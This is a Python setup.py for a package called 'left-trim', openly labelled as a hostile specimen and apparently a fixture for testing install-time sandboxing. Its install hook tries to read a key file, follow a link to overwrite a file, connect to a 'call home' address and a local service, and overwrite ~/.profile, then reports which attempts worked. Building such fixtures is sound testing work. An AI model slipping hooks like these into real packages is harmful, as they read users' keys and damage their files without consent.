# This project is hostile on purpose: a harmless specimen for an example. Any command of this file runs what is below.
import json
import os
import socket

from setuptools import setup

# What an attacker would like to know of you, already known.
with open("target.json") as file:
    TARGET = json.load(file)


def read(path):
    with open(path) as file:
        file.read()


def call(host, port):
    socket.create_connection((host, port), 5).close()


def overwrite(path):
    with open(path, "w") as file:
        file.write("owned\n")


def attempt(what, act, *args):
    try:
        act(*args)
        print("hook:", what, "worked", flush=True)
    except OSError as error:
        print("hook:", what, "failed:", error.strerror or error, flush=True)


attempt("read your key", read, TARGET["key"])
attempt("read your key by the link", read, "notes.txt")
attempt("overwrite your key by the link", overwrite, "notes.txt")
attempt("call home", call, "192.0.2.1", 443)
attempt("call a service of yours", call, "127.0.0.1", TARGET["port"])
attempt("leave something behind in the home directory", overwrite, os.path.expanduser("~/.profile"))

setup(name="left-trim", version="1.0", py_modules=["lefttrim"])
